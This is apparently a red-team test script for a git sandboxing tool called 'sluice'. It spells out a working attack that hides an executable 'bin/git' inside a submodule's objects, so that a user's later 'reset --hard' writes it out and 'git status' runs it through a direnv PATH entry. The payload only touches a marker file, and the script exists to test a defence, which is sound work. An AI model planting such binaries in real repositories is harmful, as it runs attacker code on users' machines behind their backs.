#!/usr/bin/env bash
# red team 49: what 49-submodule-at-path-folder.sh leaves. The same run:
# a submodule at `tools` in git's own layout (core.worktree =
# ../../../tools, kept by is_submodule_worktree()), the user's PATH naming
# tools/bin, its commit holding an executable bin/git as git objects only.
# The check of what git restores later moves the top's main back and
# unstages the gitlink, but the submodule's own HEAD and index (in
# .git/modules/tools) still name that commit, and its work tree lacks
# bin/git: `git -C tools status` says "deleted: bin/git". The user's
# `git -C tools reset --hard` (or `checkout .`) writes tools/bin/git, and
# `git status` with direnv's PATH_add tools/bin runs it. The sweep keeps
# the work tree there as "what the command could have written itself",
# which for tools/bin/git it could not.
# usage: 49-nested-path-folder.sh /path/to/sluice   (as root or a user)
NAME=nested-path-folder
HOLE="the submodule's own HEAD (tools/.git -> .git/modules/tools, core.worktree kept) holds an executable bin/git; the check looked at the top only; the user's git -C tools reset --hard wrote tools/bin/git, git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1"; }
path_dir() { echo "$1/tools/bin"; }
attack() {
  cat <<EOA
G='env PATH=/usr/bin:/bin git' && mkdir -p .git/modules &&
\$G init -q --separate-git-dir=.git/modules/tools tools &&
b=\$(printf '#!/bin/sh\\ntouch $1\\nexec /usr/bin/git "\$@"\\n' | \$G -C tools hash-object -w --stdin) &&
\$G -C tools update-index --add --cacheinfo 100755,\$b,bin/git && \$G -C tools commit -qm tools &&
printf '[submodule "tools"]\\n\\tpath = tools\\n\\turl = ./tools\\n' >>.gitmodules &&
\$G add .gitmodules tools && \$G commit -qm 'add tools' &&
\$G config -f .git/modules/tools/config core.worktree ../../../tools
EOA
}
trigger() {
  echo "   git status: $(cd "$1" && git status --short 2>&1 | tr '\n' ' ')"
  git -C "$1/tools" reset -q --hard >/dev/null 2>&1; user_status "$1"
}
finish
